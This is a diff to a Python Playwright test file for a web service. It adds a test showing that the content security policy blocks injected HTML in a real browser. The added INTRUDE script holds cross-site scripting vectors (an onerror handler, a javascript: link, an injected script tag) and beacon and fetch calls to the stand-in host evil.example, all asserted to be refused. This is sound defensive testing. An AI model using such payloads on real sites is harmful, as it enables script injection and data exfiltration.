@@ -216,3 +216,37 @@ def test_a_source_that_is_not_there_is_a_page_that_says_so(browser: Any, service
         assert page.goto(service.url + path).status == 404
         page.get_by_role("heading", name=words).wait_for()
     page.close()
+
+
+INTRUDE = """() => {
+  window.intruded = [];
+  const box = document.createElement("div");
+  box.innerHTML = '<img src="nosuch.png" onerror="intruded.push(1)"><a id="lure" href="javascript:intruded.push(2)">x</a>';
+  document.body.append(box);
+  const script = document.createElement("script");
+  script.textContent = "intruded.push(3)";
+  document.body.append(script);
+  document.getElementById("lure").click();
+  const remote = new Image();
+  remote.src = "https://evil.example/?what-was-read";
+  const failed = new Promise((done) => box.querySelector("img").addEventListener("error", done));
+  return failed.then(() => fetch("https://evil.example/", {mode: "no-cors"})).then(() => "sent", () => "refused");
+}"""
+
+
+def test_html_that_got_into_the_page_can_neither_run_nor_send(browser: Any, service: Service) -> None:
+    """The second wall, behind the one that keeps HTML out: what the content security policy refuses in a real browser."""
+    page = browser.new_page()
+    refused: list[str] = []
+    page.on("console", lambda message: refused.append(message.text) if "Content Security Policy" in message.text else None)
+    page.goto(service.url)
+    page.get_by_label("Your question").wait_for()
+    assert page.evaluate(INTRUDE) == "refused"
+    assert page.evaluate("window.intruded") == []
+    assert len(refused) >= 5
+    page.close()
+
+
+def test_the_api_docs_work_under_their_policy(open_page: OpenPage) -> None:
+    page = open_page("/docs")
+    page.get_by_text("/api/v1/sources/upload").first.wait_for()
